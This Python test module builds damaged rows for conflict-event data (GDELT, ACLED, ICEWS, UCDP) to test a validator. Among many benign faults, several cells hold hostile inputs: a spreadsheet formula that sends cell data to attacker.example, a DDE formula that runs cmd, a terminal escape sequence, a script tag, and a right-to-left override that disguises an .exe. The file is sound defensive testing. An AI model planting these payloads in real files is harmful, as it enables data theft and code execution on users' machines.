"""Damage of single cells, and fields that do not agree."""

from tests.damage.base import acled, gdelt1_events, gdelt2_events, gdelt2_mentions, icews, table, ucdp


def gdelt(**changes: str) -> bytes:
    rows = gdelt2_events()
    rows[1] |= changes
    return table("gdelt2-events", rows).encode()


def protest(**changes: str) -> bytes:
    rows = acled()
    rows[1] |= changes
    return table("acled", rows).encode()


def clash(**changes: str) -> bytes:
    rows = ucdp()
    rows[1] |= changes
    return table("ucdp-ged", rows).encode()


def make_formula() -> bytes:
    """A cell that a spreadsheet would run."""
    return protest(notes='=HYPERLINK("http://attacker.example/?"&A1,"Click")')


def make_formula_in_a_code() -> bytes:
    """A formula in place of a code."""
    return gdelt(Actor1Code="=cmd|' /C calc'!A0")


def make_lost_zero() -> bytes:
    """A code that lost its zero."""
    return gdelt(EventCode="36", EventBaseCode="36", EventRootCode="3", QuadClass="1", GoldsteinScale="4.0")


def make_scientific_date() -> bytes:
    """A time stamp in scientific notation."""
    return table("gdelt2-events", [row | {"DATEADDED": "2.02E+13"} for row in gdelt2_events()]).encode()


def make_mangled_dates() -> bytes:
    """Dates that a spreadsheet wrote its own way."""
    return table("acled", [row | {"event_date": "22-Feb-23"} for row in acled()]).encode()


def make_ambiguous_date() -> bytes:
    """A date of which nobody can tell day and month."""
    rows = icews()
    rows[1]["Event Date"] = "06/02/18"
    return table("icews", rows).encode()


def make_day_that_is_none() -> bytes:
    """The 31st of February."""
    return gdelt(SQLDATE="20240231")


def make_year_10000() -> bytes:
    """A date of five digits a year."""
    return clash(date_start="12009-06-09", date_end="12009-06-09")


def make_decimal_commas() -> bytes:
    """Numbers with decimal commas."""
    return table("acled", [row | {"latitude": "48,8566", "longitude": "2,3522"} for row in acled()]).encode()


def make_whole_number_with_decimals() -> bytes:
    """1.0 for 1."""
    return clash(type_of_violence="1.0")


def make_spaces() -> bytes:
    """Spaces around a code."""
    return gdelt(Actor1Code=" FRA ")


def make_no_break_space() -> bytes:
    """A space that is none."""
    return gdelt(Actor1Code="FRA\u00a0")


def make_invisible_character() -> bytes:
    """A character of no width within a code."""
    return gdelt(EventCode="19\u200b0")


def make_letters_that_look_alike() -> bytes:
    """A Cyrillic А in a country code."""
    return gdelt(Actor1CountryCode="FR\u0410", Actor1Code="FR\u0410")


def make_wide_digits() -> bytes:
    """Digits of another script."""
    return gdelt(GLOBALEVENTID="９０００００００２")


def make_text_from_right_to_left() -> bytes:
    """A mark that turns the direction of the text."""
    return gdelt(SOURCEURL="https://news.example/\u202egpj.exe")


def make_mojibake() -> bytes:
    """UTF-8 read as Windows-1252 and saved."""
    return protest(notes="The teachersâ€™ union of CÃ´te dâ€™Or")


def make_replacement_character() -> bytes:
    """A character that was lost before."""
    return protest(notes="The teachers\ufffd union")


def make_terminal_escape() -> bytes:
    """A sequence that would change the reader's terminal."""
    return protest(event_type="\x1b[2J\x1b]0;owned\x07Protests")


def make_markup_in_a_cell() -> bytes:
    """Markup that a report in HTML must not run."""
    return protest(event_type="<script>alert(1)</script>")


def make_huge_number() -> bytes:
    """A number of 400 digits."""
    return gdelt(NumMentions="9" * 400)


def make_infinite_numbers() -> bytes:
    """Numbers that are none."""
    return gdelt(AvgTone="inf", GoldsteinScale="1e999", Actor1Geo_Lat="nan")


def make_hexadecimal() -> bytes:
    """A number as programmers write it."""
    return gdelt(NumMentions="0x1F")


def make_required_missing() -> bytes:
    """An event without its number."""
    return gdelt(GLOBALEVENTID="")


def make_code_unknown() -> bytes:
    """A code of no list."""
    return gdelt(EventCode="199", EventBaseCode="199", EventRootCode="19")


def make_code_of_actor_unknown() -> bytes:
    """An actor's code with a piece that means nothing."""
    return gdelt(Actor1Code="FRAQQQ")


def make_code_of_actor_cut() -> bytes:
    """An actor's code that is cut in a piece."""
    return gdelt(Actor1Code="FRAGO")


def make_code_of_another_list() -> bytes:
    """Two letters where three are wanted."""
    return gdelt(Actor1CountryCode="FR")


def make_root_of_another() -> bytes:
    """A root that is not the code's."""
    return gdelt(EventRootCode="18")


def make_quad_class_of_another() -> bytes:
    """A quad class that is not the root's."""
    return gdelt(QuadClass="3")


def make_score_of_another() -> bytes:
    """A Goldstein score that is not the code's."""
    return gdelt(GoldsteinScale="-9.0")


def make_month_of_another() -> bytes:
    """A month that is not the day's."""
    return gdelt(MonthYear="202404")


def make_fraction_of_the_codebook() -> bytes:
    """FractionDate as GDELT's codebook says, which GDELT does not do."""
    return gdelt(FractionDate="2024.2603")


def make_latitude_beyond_the_pole() -> bytes:
    """A latitude of 146."""
    return gdelt(ActionGeo_Lat="146")


def make_half_a_place() -> bytes:
    """A latitude without longitude."""
    return gdelt(ActionGeo_Long="")


def make_no_place_as_zero() -> bytes:
    """No place as latitude 0, longitude 0."""
    rows = gdelt1_events()
    rows[1] |= {"ActionGeo_Lat": "0", "ActionGeo_Long": "0"}
    return table("gdelt1-events", rows).encode()


def make_more_sources_than_mentions() -> bytes:
    """Counts in the wrong order."""
    return gdelt(NumSources="99")


def make_mention_before_its_event() -> bytes:
    """A mention older than what it mentions."""
    rows = gdelt2_mentions()
    rows[1] |= {"EventTimeDate": "20240306120000"}
    return table("gdelt2-mentions", rows).encode()


def make_confidence_between_steps() -> bytes:
    """A confidence of 55."""
    rows = gdelt2_mentions()
    rows[1] |= {"Confidence": "55"}
    return table("gdelt2-mentions", rows).encode()


def make_intensity_of_another() -> bytes:
    """An intensity that is not the code's."""
    rows = icews()
    rows[1]["Intensity"] = "-10"
    return table("icews", rows).encode()


def make_text_of_another() -> bytes:
    """An event's words that are not the code's."""
    rows = icews()
    rows[1]["Event Text"] = "Use unconventional violence"
    return table("icews", rows).encode()


def make_kind_of_another() -> bytes:
    """A sub-event of another kind of event."""
    return protest(sub_event_type="Armed clash")


def make_kind_misspelt() -> bytes:
    """A kind of event with a slip of the pen."""
    return protest(event_type="Protest")


def make_interaction_of_others() -> bytes:
    """An interaction that is not that of the two actors."""
    return protest(interaction="16")


def make_labels_for_numbers() -> bytes:
    """Types of actors as labels, as ACLED writes them since 2024 (sound)."""
    rows = [row | {"inter1": "Protesters", "inter2": "", "interaction": "Protesters only"} for row in acled()]
    return table("acled", rows).encode()


def make_year_of_another() -> bytes:
    """A year that is not the day's."""
    return protest(year="2022")


def make_milliseconds() -> bytes:
    """A time stamp in milliseconds."""
    return protest(timestamp="1677500000000")


def make_deaths_do_not_add_up() -> bytes:
    """A best estimate that is not the sum of the deaths."""
    return clash(best="7", high="9")


def make_ends_before_it_begins() -> bytes:
    """An event that ends before it begins."""
    return clash(date_end="2009-06-08")


def make_point_the_other_way_round() -> bytes:
    """A point with latitude first."""
    return clash(geom_wkt="POINT (11.846440 13.160274)")


def make_cell_of_another_grid() -> bytes:
    """A PRIO-GRID cell elsewhere."""
    return clash(priogrid_gid="1")


def make_dyad_of_others() -> bytes:
    """A dyad whose name is not that of its sides."""
    return clash(dyad_name="Government of Chad - Example Group")


def make_name_of_old() -> bytes:
    """A misspelling that a package spread."""
    return protest(disorder_type="Demostrations")


def make_scale_of_no_list() -> bytes:
    """A list of which one item is unknown."""
    return protest(source_scale="National-Galactic")


def make_division_of_another_country() -> bytes:
    """A division that is not its country's."""
    return gdelt(ActionGeo_ADM1Code="GM01")


def make_event_of_nobody() -> bytes:
    """An event without any actor."""
    names = ("Actor1Code", "Actor1Name", "Actor1CountryCode")
    others = ("Actor2Code", "Actor2Name", "Actor2CountryCode", "Actor2Type1Code")
    return gdelt(**dict.fromkeys((*names, *others), ""))


def make_row_twice() -> bytes:
    """An ICEWS row that stands twice."""
    rows = icews()
    return table("icews", [*rows, rows[0]]).encode()
